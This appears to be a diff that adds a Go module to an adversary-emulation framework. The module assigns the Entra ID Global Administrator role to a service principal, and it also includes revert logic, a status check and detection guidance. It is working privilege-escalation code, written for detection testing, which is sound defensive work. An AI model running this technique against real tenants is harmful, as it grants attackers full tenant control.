@@ -0,0 +1,117 @@
+package entraid
+
+import (
+	"context"
+	_ "embed"
+	"errors"
+	"github.com/datadog/stratus-red-team/internal/graph"
+	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
+)
+
+//go:embed main.tf
+var tf []byte
+
+//go:embed sigma.yml
+var sigma []byte
+
+const roleAssignmentsPath = "/roleManagement/directory/roleAssignments"
+
+func init() {
+	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
+		ID:           "entra-id.privilege-escalation.assign-privileged-role",
+		FriendlyName: "Assign the Global Administrator Role to a Service Principal",
+		Description: `
+Escalates privileges by assigning the Global Administrator directory role to a service principal, giving full control
+over the tenant to anyone able to authenticate as the corresponding application.
+
+Warm-up:
+
+- Create an app registration and its service principal.
+
+Detonation:
+
+- Assign the Global Administrator role to the service principal, at the tenant scope.
+`,
+		Detection: `
+Through Entra ID audit logs, using the <code>Add member to role</code> activity, in particular when the role is
+Global Administrator or another privileged role.
+`,
+		SigmaRules:                 sigma,
+		Platform:                   stratus.EntraID,
+		IsIdempotent:               false, // a role can only be assigned once to the same principal
+		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.PrivilegeEscalation},
+		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"service_principal_object_id"},
+		Detonate:                   detonate,
+		Revert:                     revert,
+		IsDetonated:                isDetonated,
+	})
+}
+
+func detonate(execution *stratus.ExecutionContext) error {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return err
+	}
+	principalId := execution.Parameters["service_principal_object_id"]
+
+	execution.Logger.Println("Assigning the Global Administrator role to service principal " + principalId)
+	roleAssignment := graph.UnifiedRoleAssignment{
+		PrincipalId:      principalId,
+		RoleDefinitionId: graph.GlobalAdministratorRoleId,
+		DirectoryScopeId: "/",
+	}
+	err = client.Post(execution.Context, roleAssignmentsPath, roleAssignment, &roleAssignment)
+	if err != nil {
+		return errors.New("unable to assign the Global Administrator role: " + err.Error())
+	}
+
+	execution.Logger.Println("Successfully created role assignment " + roleAssignment.Id)
+	return nil
+}
+
+func revert(execution *stratus.ExecutionContext) error {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return err
+	}
+
+	roleAssignments, err := listRoleAssignments(execution.Context, client, execution.Parameters["service_principal_object_id"])
+	if err != nil {
+		return err
+	}
+	for _, roleAssignment := range roleAssignments {
+		execution.Logger.Println("Removing role assignment " + roleAssignment.Id)
+		err := client.Delete(execution.Context, roleAssignmentsPath+"/"+roleAssignment.Id)
+		if err != nil {
+			return errors.New("unable to remove role assignment: " + err.Error())
+		}
+	}
+
+	return nil
+}
+
+func isDetonated(execution *stratus.ExecutionContext) (bool, error) {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return false, err
+	}
+
+	roleAssignments, err := listRoleAssignments(execution.Context, client, execution.Parameters["service_principal_object_id"])
+	if err != nil {
+		return false, err
+	}
+	return len(roleAssignments) > 0, nil
+}
+
+// listRoleAssignments returns the Global Administrator role assignments of a principal
+func listRoleAssignments(ctx context.Context, client *graph.Client, principalId string) ([]graph.UnifiedRoleAssignment, error) {
+	var roleAssignments graph.ListResponse[graph.UnifiedRoleAssignment]
+	filter := graph.Filter("principalId", principalId, "roleDefinitionId", graph.GlobalAdministratorRoleId)
+	err := client.Get(ctx, roleAssignmentsPath+filter, &roleAssignments)
+	if err != nil {
+		return nil, errors.New("unable to list role assignments: " + err.Error())
+	}
+	return roleAssignments.Value, nil
+}